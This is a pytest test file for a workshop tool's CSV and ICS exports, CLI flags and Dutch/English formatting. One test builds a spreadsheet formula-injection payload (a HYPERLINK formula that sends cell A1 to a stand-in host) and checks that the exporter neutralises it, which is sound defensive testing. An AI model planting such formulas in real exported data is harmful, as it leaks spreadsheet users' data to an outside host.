"""Exports of a session: the actions as CSV (for the session's spreadsheet) and as a
calendar (ICS), the export itself (language, notes, where taken-over actions came
from), ``samen export``'s flags, and dates and plurals in Dutch and English."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterator
from pathlib import Path

import icalendar
import pytest
import tomli_w

from samen_tui import report
from samen_tui.cli import main
from samen_tui.i18n import plural, set_language
from samen_tui.kinds.actions.record import Action, ActionsRecord
from samen_tui.kinds.content.record import ContentRecord
from samen_tui.report.ics import LINE_OCTETS, escape_text, fold, report_ics
from samen_tui.session.model import Participant, Session
from tests.fixtures import report_fixture as fx

NOW = dt.datetime(2025, 3, 12, 12, 30, tzinfo=dt.UTC)


@pytest.fixture(autouse=True)
def dutch() -> Iterator[None]:
    set_language("nl")
    yield
    set_language("nl")


def write_session(path: Path, session: Session) -> Path:
    path.write_bytes(tomli_w.dumps(session.to_dict()).encode("utf-8"))
    return path


def read_csv(text: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def actions_session(*actions: Action, language: str = "") -> Session:
    return Session(
        workshop="proef",
        title="Gemeente Voorbeeld",
        language=language,
        started=dt.datetime(2027, 1, 26, 9, 30, tzinfo=fx.TZ),
        participants=[Participant(id="p1", name="Anna Jansen")],
        records={"acties": ActionsRecord(actions=list(actions))},
    )


# --------------------------------------------------------------------------- csv


def test_dutch_csv_has_a_bom_semicolons_and_crlf() -> None:
    text = report.render(fx.workshop(), fx.session(), "csv")
    assert text.startswith("\ufeffwie;wat;wanneer;status;stap;herkomst\r\n")
    assert text.count("\r\n") == 5 and "\n" not in text.replace("\r\n", "")
    rows = read_csv(text.removeprefix("\ufeff"), ";")
    assert rows[1:] == [
        ["Wethouder", "Budget vragen", "20-3-2025", "open", "Het gesprek", ""],
        [
            "Anna Jansen",
            fx.INJECT_PIPE,
            "31-3-2025",
            "open",
            "Afspraken en acties",
            "een eerdere sessie van 15 januari 2025",
        ],
        ["Anna Jansen", "Plan de pilot", "15-4-2025", "open", "Het gesprek", ""],
        ["Cem Yilmaz", "Verslag rondsturen", "", "afgerond", "Afspraken en acties", ""],
    ]


def test_english_csv_has_commas_and_no_bom() -> None:
    session = fx.session()
    session.language = "en"
    text = report.render(fx.workshop(), session, "csv")
    assert text.startswith("who,what,when,status,step,origin\r\n")
    rows = read_csv(text, ",")
    assert ["Wethouder", "Budget vragen", "20 Mar 2025", "open", "Het gesprek", ""] in rows


def test_delimiter_can_be_chosen() -> None:
    text = report.render(fx.workshop(), fx.session(), "csv", delimiter="\t")
    assert text.startswith("\ufeffwie\twat\twanneer\t")
    assert read_csv(text.removeprefix("\ufeff"), "\t")[1][:2] == ["Wethouder", "Budget vragen"]
    assert report.render(fx.workshop(), fx.session(), "csv", language="en", delimiter=";")[
        :20
    ].startswith("who;what;when")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_injection_is_neutralised(start: str) -> None:
    payload = f'{start}HYPERLINK("http://x.example/?"&A1;"klik")'
    session = actions_session(Action(id="a", who=start + "1+1", what=payload))
    text = report.render(None, session, "csv")
    rows = read_csv(text.removeprefix("\ufeff"), ";")
    assert rows[1][0] == "'" + start + "1+1"
    assert rows[1][1] == "'" + payload
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_line_breaks_and_quotes_stay_in_their_cell() -> None:
    session = actions_session(
        Action(id="a", who='Piet "de" Vries', what="bellen; mailen\nen\r\nlangsgaan\rnu"),
    )
    text = report.render(None, session, "csv")
    body = text.split("\r\n", 1)[1]
    assert body.startswith('"Piet ""de"" Vries";"bellen; mailen\nen\r\nlangsgaan\rnu";')
    rows = read_csv(text.removeprefix("\ufeff"), ";")
    assert len(rows) == 2
    assert rows[1][:2] == ['Piet "de" Vries', "bellen; mailen\nen\r\nlangsgaan\rnu"]
    assert report.safe_cell("gewoon") == "gewoon" and report.safe_cell("") == ""


def test_csv_without_the_workshop_names_steps_by_id() -> None:
    rows = read_csv(report.render(None, fx.session(), "csv").removeprefix("\ufeff"), ";")
    assert ["Wethouder", "Budget vragen", "20-3-2025", "open", "gesprek", ""] in rows


# --------------------------------------------------------------------------- ics


def parse_calendar(text: str) -> icalendar.Calendar:
    calendar = icalendar.Calendar.from_ical(text)
    assert isinstance(calendar, icalendar.Calendar)
    return calendar


def test_ics_parses_back_with_the_right_dates() -> None:
    text = report.render(fx.workshop(), fx.session(), "ics", now=NOW)
    calendar = parse_calendar(text)
    assert calendar["VERSION"] == "2.0" and calendar["PRODID"]
    events = list(calendar.walk("VEVENT"))
    # the three actions with a date; the undated one is not in the calendar
    assert [(str(e["SUMMARY"]), e.decoded("DTSTART")) for e in events] == [
        ("Budget vragen", dt.date(2025, 3, 20)),
        (fx.INJECT_PIPE, dt.date(2025, 3, 31)),
        ("Plan de pilot", dt.date(2025, 4, 15)),
    ]
    for event in events:
        start = event.decoded("DTSTART")
        assert type(start) is dt.date  # an all-day entry, not a time
        assert event.decoded("DTEND") == start + dt.timedelta(days=1)
        assert event.decoded("DTSTAMP") == NOW
        assert str(event["UID"]).endswith("@samen-tui")
    first = str(events[0]["DESCRIPTION"])
    assert first == "Wie: Wethouder\nAfgesproken in: Gemeente Voorbeeld, 12 maart 2025"
    assert str(events[2]["DESCRIPTION"]).startswith("Wie: Anna Jansen\n")
    assert len({str(e["UID"]) for e in events}) == 3
    # the same action keeps its UID at the next export (a calendar updates it)
    again = parse_calendar(report.render(fx.workshop(), fx.session(), "ics"))
    assert [str(e["UID"]) for e in again.walk("VEVENT")] == [str(e["UID"]) for e in events]


def test_ics_lines_are_crlf_folded_and_escaped() -> None:
    what = "Café; aan de Grote Markt, met \\ en een heel lang verhaal " + "éü€" * 30
    session = actions_session(
        Action(id="a", who="p1", what=what + "\nnieuwe regel", when=dt.date(2027, 1, 26))
    )
    text = report_ics(session, NOW)
    assert text.endswith("END:VCALENDAR\r\n")
    lines = text.split("\r\n")
    assert all("\n" not in line and "\r" not in line for line in lines)
    assert all(len(line.encode("utf-8")) <= LINE_OCTETS for line in lines)
    assert any(line.startswith(" ") for line in lines)  # folded
    assert "DTSTART;VALUE=DATE:20270126\r\n" in text
    (event,) = parse_calendar(text).walk("VEVENT")
    assert str(event["SUMMARY"]) == what + "\nnieuwe regel"
    assert event.decoded("DTSTART") == dt.date(2027, 1, 26)
    assert escape_text("a;b,c\\d\ne\x07") == "a\\;b\\,c\\\\d\\ne"
    assert fold("X" * 75) == "X" * 75 + "\r\n"
    assert fold("X" * 76) == "X" * 75 + "\r\n X\r\n"
    folded = fold("é" * 40)  # 80 octets: never split inside a character
    assert [len(part.encode()) for part in folded.split("\r\n")[:-1]] == [74, 7]


def test_ics_in_english_and_without_dated_actions() -> None:
    session = actions_session(
        Action(id="a", who="Ed", what="Call", when=dt.date(2027, 2, 1), status="done"),
        language="en",
    )
    (event,) = parse_calendar(report.render(None, session, "ics")).walk("VEVENT")
    assert str(event["DESCRIPTION"]) == (
        "Who: Ed\nAgreed in: Gemeente Voorbeeld, 26 January 2027\nStatus: done"
    )
    with pytest.raises(report.ExportError, match="geen acties met een datum"):
        report.render(None, actions_session(Action(id="b", what="Ooit")), "ics")


# --------------------------------------------------------------------------- export


def test_export_names_the_earlier_session_by_title_and_date(tmp_path: Path) -> None:
    earlier = Session(
        workshop="proef",
        title="Gemeente Voorbeeld",
        started=dt.datetime(2025, 1, 15, 13, 30, tzinfo=fx.TZ),
    )
    write_session(tmp_path / "2025-01-15-gemeente-voorbeeld.toml", earlier)
    path = write_session(tmp_path / "2025-03-12-gemeente-voorbeeld.toml", fx.session())
    md = report.export_session(path, "md", workshop=fx.workshop())
    assert isinstance(md, str)
    assert "overgenomen uit Gemeente Voorbeeld van 15 januari 2025" in md
    assert ".toml" not in md
    rows = read_csv(str(report.export_session(path, "csv")).removeprefix("\ufeff"), ";")
    assert rows[2][5] == "Gemeente Voorbeeld van 15 januari 2025"


def test_export_writes_the_session_language_unless_asked(tmp_path: Path) -> None:
    session = fx.session()
    session.language = "en"
    path = write_session(tmp_path / "s.toml", session)
    english = report.export_session(path, "md", workshop=fx.workshop())
    assert isinstance(english, str) and english.startswith("# Report: Gemeente Voorbeeld")
    dutch = report.export_session(path, "md", workshop=fx.workshop(), language="nl")
    assert isinstance(dutch, str) and dutch.startswith("# Verslag: Gemeente Voorbeeld")


def test_export_writes_each_format_byte_for_byte(tmp_path: Path) -> None:
    path = write_session(tmp_path / "s.toml", fx.session())
    for fmt in ("md", "html", "csv", "ics"):
        out = tmp_path / f"verslag.{fmt}"
        assert report.export_session(path, fmt, out, workshop=fx.workshop()) == out
    assert (tmp_path / "verslag.csv").read_bytes().startswith(b"\xef\xbb\xbfwie;wat;")
    assert b"\r\n" in (tmp_path / "verslag.csv").read_bytes()
    ics = (tmp_path / "verslag.ics").read_bytes()
    assert ics.startswith(b"BEGIN:VCALENDAR\r\n") and b"\n" not in ics.replace(b"\r\n", b"")
    assert (tmp_path / "verslag.html").read_text(encoding="utf-8").startswith("<!DOCTYPE html>")


def test_unknown_format_and_delimiter_are_messages(tmp_path: Path) -> None:
    path = write_session(tmp_path / "s.toml", fx.session())
    with pytest.raises(report.ExportError, match="kies uit: md, html, csv, ics"):
        report.export_session(path, "pdf")
    with pytest.raises(report.ExportError, match="Onbekend scheidingsteken 'xx'"):
        report.export_session(path, "csv", delimiter="xx")


# --------------------------------------------------------------------------- cli


def run(*args: str) -> tuple[int, str]:
    out = io.StringIO()
    code = main(list(args), out)
    return code, out.getvalue()


def notes_session(tmp_path: Path) -> Path:
    session = fx.session()
    session.records["titel"] = ContentRecord(notes="Koffie staat klaar; 7 deelnemers")
    return write_session(tmp_path / "s.toml", session)


@pytest.mark.parametrize("fmt", ["md", "html"])
def test_cli_leaves_the_trainers_notes_out_unless_asked(tmp_path: Path, fmt: str) -> None:
    path = notes_session(tmp_path)
    code, plain = run("export", str(path), "--format", fmt)
    assert code == 0
    assert "Koffie staat klaar" not in plain
    assert "Iedereen ziet eenzaamheid als kern." in plain  # what the group said
    code, full = run("export", str(path), "--format", fmt, "--with-notes")
    assert code == 0 and "Koffie staat klaar" in full


def test_cli_ics_and_delimiter(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = notes_session(tmp_path)
    target = tmp_path / "acties.ics"
    code, out = run("export", str(path), "--format", "ics", "-o", str(target))
    assert code == 0 and str(target) in out
    assert len(list(parse_calendar(target.read_text("utf-8")).walk("VEVENT"))) == 3
    code, out = run("export", str(path), "--format", "csv", "--delimiter", "tab")
    assert code == 0 and out.startswith("\ufeffwie\twat\twanneer")
    code, out = run("--lang", "en", "export", str(path), "--format", "csv")
    assert code == 0 and out.startswith("who,what,when")
    set_language("nl")  # as a new command would start
    code, _ = run("export", str(path), "--format", "csv", "--delimiter", "xx")
    assert code == 1
    assert "Onbekend scheidingsteken" in capsys.readouterr().err
    empty = write_session(tmp_path / "leeg.toml", Session(workshop="proef", title="Leeg"))
    code, _ = run("export", str(empty), "--format", "ics")
    assert code == 1 and "niets voor de agenda" in capsys.readouterr().err


# --------------------------------------------------------------------------- language


def test_dates_in_dutch_and_english() -> None:
    day = dt.date(2027, 1, 26)
    assert (report.fmt_date(day), report.fmt_day(day)) == ("26 januari 2027", "26-1-2027")
    set_language("en")
    assert (report.fmt_date(day), report.fmt_day(day)) == ("26 January 2027", "26 Jan 2027")
    assert report.fmt_day(None) == "" and report.fmt_date(None) == ""


@pytest.mark.parametrize(
    ("language", "people", "orgs", "expected"),
    [
        ("nl", 1, 1, "1 deelnemer uit 1 organisatie."),
        ("nl", 3, 1, "3 deelnemers uit 1 organisatie."),
        ("nl", 1, 0, "1 deelnemer."),
        ("nl", 4, 2, "4 deelnemers uit 2 organisaties."),
        ("en", 1, 1, "1 participant from 1 organisation."),
        ("en", 3, 2, "3 participants from 2 organisations."),
        ("en", 2, 0, "2 participants."),
    ],
)
def test_participant_counts_in_both_languages(
    language: str, people: int, orgs: int, expected: str
) -> None:
    set_language(language)
    session = fx.session()
    session.participants = [
        Participant(id=f"p{i}", name=f"P{i}", organisation=f"O{i}" if i < orgs else "")
        for i in range(people)
    ]
    md = report.report_markdown(fx.workshop(), session)
    assert f"\n{expected}\n" in md
    assert "(s)" not in md


def test_plural_picks_the_form() -> None:
    assert plural("report.participants.orgs", 1) == "1 organisatie"
    assert plural("report.participants.orgs", 0) == "0 organisaties"
    set_language("en")
    assert plural("report.conversation.actions", 1) == "1 action agreed: see the action list."


def test_the_trainers_notes_field_says_it_is_for_the_trainer_only() -> None:
    from samen_tui.i18n import t

    assert "alleen voor de trainer" in t("content.notes")
    assert "niet in het verslag" in t("help.step.content") or "laat ze weg" in t(
        "help.step.content"
    )
    set_language("en")
    assert "for the trainer only" in t("content.notes")
